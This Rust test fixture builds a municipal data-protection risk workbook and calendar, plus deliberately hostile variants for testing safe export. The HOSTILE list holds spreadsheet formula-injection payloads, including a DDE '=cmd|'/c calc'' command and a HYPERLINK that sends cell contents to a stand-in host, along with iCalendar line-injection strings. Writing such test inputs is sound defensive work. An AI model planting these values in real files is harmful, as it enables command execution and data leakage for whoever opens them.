//! Workbooks and calendars as an organisation has them and as somebody hostile fills them, for tests and for the conformance of spreadsheets.
//! It must not know how they are written.

// The tests and the example use a part each.
#![allow(dead_code)]

use jiff::civil::{Date, date};
use seloste::export::ical::{Calendar, Class, Entry};
use seloste::export::{Cell, Column, Formula, Kind, Sheet, Words, Workbook};

/// A column without a note.
pub fn column(title: &str, width: u8, kind: Kind) -> Column {
    Column {
        title: title.to_owned(),
        width,
        kind,
        note: None,
    }
}

/// A sheet without spare rows.
pub fn sheet(name: &str, columns: Vec<Column>, rows: Vec<Vec<Cell>>) -> Sheet {
    Sheet {
        name: name.to_owned(),
        heading: format!("Vaikutustenarviointi, etäohjaus: {name}"),
        marking: "Viranomaisen sisäinen asiakirja, 10.3.2026".to_owned(),
        columns,
        rows,
        to_come: 0,
        spare_rows: 0,
        landscape: false,
    }
}

/// A workbook of these sheets.
pub fn workbook(sheets: Vec<Sheet>) -> Workbook {
    Workbook {
        title: "Vaikutustenarviointi: etäohjaus".to_owned(),
        subject: "Riskit ja toimenpiteet".to_owned(),
        organisation: "Esimerkkilän kunta".to_owned(),
        language: "fi".to_owned(),
        created: Some(date(2026, 3, 10)),
        words: Words {
            lists: "Luettelot".to_owned(),
            cut: " … (jatkuu asiakirjassa)".to_owned(),
        },
        sheets,
    }
}

/// A text in a cell.
pub fn text(text: &str) -> Cell {
    Cell::Text(text.to_owned())
}

fn words(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

/// The levels of the method of four by four.
pub const LIKELIHOODS: [&str; 4] = [
    "Epätodennäköinen",
    "Mahdollinen",
    "Todennäköinen",
    "Lähes varma",
];
/// Severities, likewise.
pub const SEVERITIES: [&str; 4] = ["Vähäinen", "Kohtalainen", "Merkittävä", "Erittäin vakava"];
/// Bands, from the mildest.
pub const BANDS: [&str; 4] = ["Matala", "Kohtalainen", "Korkea", "Erittäin korkea"];

/// The band of a likelihood and a severity, each from 0.
pub fn band_at(likelihood: usize, severity: usize) -> &'static str {
    BANDS[usize::midpoint(likelihood, severity)]
}

/// The matrix as a sheet.
pub fn matrix() -> Sheet {
    let levels = SEVERITIES.map(|level| column(level, 16, Kind::Text));
    let first = column("Todennäköisyys", 20, Kind::Text);
    let rows = LIKELIHOODS.iter().enumerate().map(|(row, level)| {
        let bands = (0..SEVERITIES.len()).map(|column| text(band_at(row, column)));
        std::iter::once(text(level)).chain(bands).collect()
    });
    sheet(
        "Riskimatriisi",
        std::iter::once(first).chain(levels).collect(),
        rows.collect(),
    )
}

/// The risks with their bands, computed from the matrix on sheet 2.
fn risks() -> Sheet {
    let band = Formula::Band {
        matrix: 2,
        likelihood: 2,
        severity: 3,
    };
    let columns = vec![
        column("Nro", 6, Kind::Number),
        column("Uhka", 40, Kind::Text),
        column("Todennäköisyys", 18, Kind::Choice(words(&LIKELIHOODS))),
        column("Vakavuus", 18, Kind::Choice(words(&SEVERITIES))),
        column("Taso", 16, Kind::Computed(band)),
    ];
    let risk = |number, threat, likelihood: usize, severity: usize| {
        vec![
            Cell::Number(number),
            text(threat),
            text(LIKELIHOODS[likelihood]),
            text(SEVERITIES[severity]),
        ]
    };
    let mut sheet = sheet(
        "Riskit",
        columns,
        vec![
            risk(
                1,
                "Tietoja katsotaan ilman tehtävään perustuvaa syytä.",
                1,
                2,
            ),
            risk(2, "Viesti lähtee väärälle huoltajalle.", 2, 2),
            risk(3, "Tiedot katoavat, kun palvelu vaihtuu.", 0, 3),
            risk(4, "Yhdistäminen paljastaa terveydentilan.", 3, 3),
            vec![Cell::Number(5), text("Arvioidaan työpajassa.")],
        ],
    );
    sheet.spare_rows = 4;
    sheet.landscape = true;
    sheet
}

/// The action plan; its list of states is longer than a validation could hold itself.
fn actions() -> Sheet {
    let states = words(&[
        "Suunniteltu: toimenpiteestä on päätetty, eikä sitä ole vielä aloitettu",
        "Osin toteutettu: toimenpide on käytössä osassa palvelua tai vasta osalla käyttäjistä",
        "Toteutettu: toimenpide on käytössä, ja siitä on näyttö",
        "Hylätty, koska toinen toimenpide poistaa riskin; peruste on kirjattu päätökseen",
    ]);
    let mut due = column("Määräpäivä", 12, Kind::Date);
    due.note =
        Some("Päivä, johon mennessä toimenpide on käytössä, esimerkiksi 31.8.2026.".to_owned());
    let columns = vec![
        column("Toimenpide", 44, Kind::Text),
        column("Vastuuhenkilön tehtävä", 24, Kind::Text),
        due,
        column("Tila", 30, Kind::Choice(states.clone())),
    ];
    let action = |what, who, due: Date, state: usize| {
        vec![text(what), text(who), Cell::Date(due), text(&states[state])]
    };
    let mut sheet = sheet(
        "Toimenpiteet",
        columns,
        vec![
            action(
                "Lokit tarkastetaan kuukausittain.",
                "Rekisterin vastuuhenkilö",
                date(2026, 5, 31),
                0,
            ),
            action(
                "Vastaanottaja vahvistetaan ennen lähettämistä.",
                "Pääkäyttäjä",
                date(2026, 8, 1),
                1,
            ),
            action(
                "Varmuuskopion palautus kokeillaan.",
                "Tietohallintopäällikkö",
                date(2027, 1, 15),
                2,
            ),
        ],
    );
    sheet.spare_rows = 10;
    sheet.landscape = true;
    sheet
}

/// How many risks have each band.
fn summary() -> Sheet {
    let count = Formula::CountWhere {
        sheet: 0,
        column: 4,
        value: 0,
    };
    let columns = vec![
        column("Taso", 20, Kind::Text),
        column("Riskejä", 10, Kind::Computed(count)),
    ];
    let rows = BANDS.iter().map(|band| vec![text(band)]);
    sheet("Yhteenveto", columns, rows.collect())
}

/// What a data protection officer gets.
pub fn ordinary() -> Workbook {
    workbook(vec![risks(), actions(), matrix(), summary()])
}

/// Texts that want to be something else.
pub const HOSTILE: [&str; 32] = [
    "=1+1",
    "=HYPERLINK(\"https://paha.example/?t=\"&A1;\"lue\")",
    "=cmd|'/c calc'!A1",
    "+358 40 1234567",
    "-2+3",
    "- viiva luettelon alussa",
    "@SUM(A1:A9)",
    "\t=1+1",
    "  =1+1",
    "＝1+1",
    "{=SUM(A1)}",
    "'=1+1",
    "rivi\nja \"toinen\"; kolmas, \\neljäs",
    "rivi\r\nja toinen\rja kolmas",
    "ohjaus\u{0}merkit\u{7}\u{1b}[31m\u{85}",
    "\u{202e}txet\u{202c} \u{200f}oikealta\u{200e} \u{2067}a\u{2069}",
    "_x0041_ ei ole A, _x005F_x0041_ ei ole _x0041_",
    "<b>&amp;</b> ]]> <!-- -->",
    "1.3.2026",
    "007",
    "1e5",
    "TRUE",
    "#N/A",
    "https://seloste.example/ mailto:a@b.example",
    "internal:Sheet1!A1",
    "👩‍👩‍👧‍👦 e\u{301} ä ö å Ä š ž",
    "\u{feff}alku",
    "  välit  reunoilla  ",
    "\n\nloppu\n",
    "END:VCALENDAR\r\nBEGIN:VEVENT",
    "a;b,c:d\"e\"",
    "",
];

/// A text longer than a cell holds, with letters of one, two and four bytes.
pub fn endless() -> String {
    "Pitkä teksti, jossa on 🦌. ".repeat(1_600)
}

fn hostile_texts() -> Sheet {
    let choices = words(&[
        "=1+1",
        "Kyllä, mutta",
        "\"lainattu\"",
        " väli alussa",
        "",
        "Kyllä, mutta",
        "rivi\ntoinen",
    ]);
    let mut noted = column("=1+1", 20, Kind::Choice(choices));
    noted.note = Some("=1+1\n".to_owned() + &"Ohje. ".repeat(60));
    let mut first = column("", 60, Kind::Text);
    first.note = Some("Teksti.\nToinen rivi.".to_owned());
    let columns = vec![
        first,
        noted,
        column("Rivi\r\ntoinen", 0, Kind::Text),
        column("rivi TOINEN", 255, Kind::Text),
        column("[#This Row],[a]' _x0041_ <&\"", 10, Kind::Text),
        column(&"Otsikko ".repeat(60), 10, Kind::Text),
        column(&"Otsikko ".repeat(60), 10, Kind::Choice(Vec::new())),
    ];
    let mut rows: Vec<Vec<Cell>> = HOSTILE
        .iter()
        .map(|hostile| vec![text(hostile), text(hostile), Cell::Empty, text(hostile)])
        .collect();
    rows.push(vec![text(&endless()), Cell::Empty, text(&endless())]);
    rows.push(Vec::new());
    let mut sheet = sheet("[a]:*?/\\'", columns, rows);
    sheet.heading = "=1+1 &P &\"Arial\"\n<b>".to_owned();
    sheet.marking = "@salainen\u{1}".to_owned();
    sheet.spare_rows = 2;
    sheet
}

/// Numbers and days at the edges of what spreadsheets agree on, each also where another kind is expected.
fn edges() -> Sheet {
    let numbers = [
        0,
        -1,
        999_999_999_999_999,
        -999_999_999_999_999,
        1_000_000_000_000_000,
        i64::MIN,
        i64::MAX,
    ];
    let days = [
        date(1, 1, 1),
        date(1899, 12, 31),
        date(1900, 1, 1),
        date(1900, 2, 28),
        date(1900, 3, 1),
        date(2024, 2, 29),
        date(9999, 12, 31),
    ];
    let rows = numbers.into_iter().zip(days).map(|(number, day)| {
        vec![
            Cell::Number(number),
            Cell::Date(day),
            Cell::Date(day),
            Cell::Number(number),
            text("=1+1"),
        ]
    });
    let columns = vec![
        column("Luku", 20, Kind::Number),
        column("Päivä", 12, Kind::Date),
        column("Sana", 12, Kind::Text),
        column("Luku päivänä", 20, Kind::Date),
        column("Sana lukuna", 12, Kind::Number),
    ];
    sheet("History", columns, rows.collect())
}

/// Levels and bands with signs, and what is counted with signs that a condition would read otherwise.
fn hostile_formulas(at: usize) -> Vec<Sheet> {
    let levels = ["=1+1", "<b>&\"x\"'y'", "10", "Å;ä,"];
    let titles = levels.map(|level| column(level, 10, Kind::Text));
    let rows = levels.iter().enumerate().map(|(row, level)| {
        let bands = (0..levels.len()).map(|column| match (row, column) {
            (0, 0) => Cell::Number(16),
            (1, 1) => text("=\"a\"&\"b\" <ä>"),
            (2, 2) => text(">5"),
            _ => text("*?~"),
        });
        std::iter::once(text(level)).chain(bands).collect()
    });
    let columns = std::iter::once(column("+", 10, Kind::Text)).chain(titles);
    let matrix = sheet("It's 'x'!$A$1", columns.collect(), rows.collect());
    let choice = || Kind::Choice(words(&levels));
    let band = Formula::Band {
        matrix: at,
        likelihood: 0,
        severity: 1,
    };
    let columns = vec![
        column("L", 10, choice()),
        column("S", 10, choice()),
        column("B", 10, Kind::Computed(band)),
    ];
    let mut rows: Vec<Vec<Cell>> = Vec::new();
    for likelihood in levels {
        rows.extend(levels.map(|severity| vec![text(likelihood), text(severity)]));
        rows.push(vec![text(likelihood)]);
        rows.push(vec![text(""), text(likelihood)]);
    }
    let mut risks = sheet("R1C1", columns, rows);
    risks.spare_rows = 3;
    let count = |sheet, column| {
        Kind::Computed(Formula::CountWhere {
            sheet,
            column,
            value: 0,
        })
    };
    let columns = vec![
        column("Arvo", 10, Kind::Text),
        column("Tasoja", 10, count(at + 1, 2)),
        column("Tekstejä", 10, count(0, 0)),
        column("Lukuja", 10, count(1, 0)),
        column("Päiviä", 10, count(1, 1)),
    ];
    let mut values = vec![
        text("16"),
        text("*?~"),
        text("*?~".to_uppercase().as_str()),
        text(">5"),
        Cell::Number(0),
    ];
    values.extend([
        text("=\"a\"&\"b\" <ä>"),
        text("*"),
        text("<>"),
        Cell::Date(date(2024, 2, 29)),
        Cell::Empty,
    ]);
    values.extend(HOSTILE.map(text));
    values.extend(HOSTILE.map(|hostile| text(&hostile.to_uppercase())));
    let counts = sheet(
        "A1",
        columns,
        values.into_iter().map(|value| vec![value]).collect(),
    );
    vec![matrix, risks, counts]
}

/// What somebody hostile, or a careless program, would put into it.
pub fn hostile() -> Workbook {
    let empty = |name: &str| sheet(name, vec![column("", 1, Kind::Text)], Vec::new());
    let mut sheets = vec![hostile_texts(), edges()];
    sheets.extend(hostile_formulas(2));
    sheets.extend(
        [
            "",
            "",
            "luettelot",
            "LUETTELOT",
            "👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦",
            "=1+1",
            "Taulukon nimi on hyvin pitkä, aivan liian",
            "Taulukon nimi on hyvin pitkä, aivan liian pitkä",
        ]
        .map(empty),
    );
    Workbook {
        title: "=1+1 <title>&amp;\u{0}\nrivi".to_owned(),
        subject: String::new(),
        organisation: "\"Kunta\" & 'kumppanit' <oy>".to_owned(),
        ..workbook(sheets)
    }
}

/// The due dates of the ordinary action plan.
pub fn due_dates() -> Calendar {
    let entry = |id: &str, day, summary: &str, remind_days| {
        Entry {
        id: id.to_owned(),
        date: day,
        summary: summary.to_owned(),
        description: "Vaikutustenarviointi: etäohjaus\nVastuussa: rekisterin vastuuhenkilö; tila: suunniteltu, ei aloitettu".to_owned(),
        categories: words(&["Vaikutustenarviointi", "Toimenpide"]),
        remind_days,
    }
    };
    Calendar {
        name: "Vaikutustenarviointi: etäohjaus".to_owned(),
        namespace: "https://esimerkkila.example".to_owned(),
        language: "fi".to_owned(),
        stamp: date(2026, 3, 10),
        class: Class::Confidential,
        entries: vec![
            entry(
                "etaohjaus/lokit",
                date(2026, 5, 31),
                "Lokit tarkastetaan kuukausittain",
                Some(14),
            ),
            entry(
                "etaohjaus/vastaanottaja",
                date(2026, 8, 1),
                "Vastaanottaja vahvistetaan ennen lähettämistä",
                Some(1),
            ),
            entry(
                "etaohjaus/palautus",
                date(2027, 1, 15),
                "Varmuuskopion palautus kokeillaan",
                Some(0),
            ),
            entry(
                "etaohjaus/tarkistus",
                date(2028, 2, 29),
                "Arviointi tarkistetaan",
                None,
            ),
        ],
    }
}

/// Entries with hostile texts everywhere, all with one identifier.
pub fn hostile_dates() -> Calendar {
    let entries = HOSTILE.into_iter().map(|hostile| Entry {
        id: "sama\r\nEND:VEVENT".to_owned(),
        date: date(9999, 12, 31),
        summary: hostile.to_owned(),
        description: format!("{hostile}{}", endless()),
        categories: words(&[hostile, "", "toinen, kolmas; neljäs"]),
        remind_days: Some(u16::MAX),
    });
    Calendar {
        name: "END:VCALENDAR\r\n, ; \\".to_owned(),
        namespace: "x\r\nBEGIN:VEVENT".to_owned(),
        language: "fi:X\r\nY".to_owned(),
        stamp: date(1, 1, 1),
        class: Class::Private,
        entries: entries.collect(),
    }
}
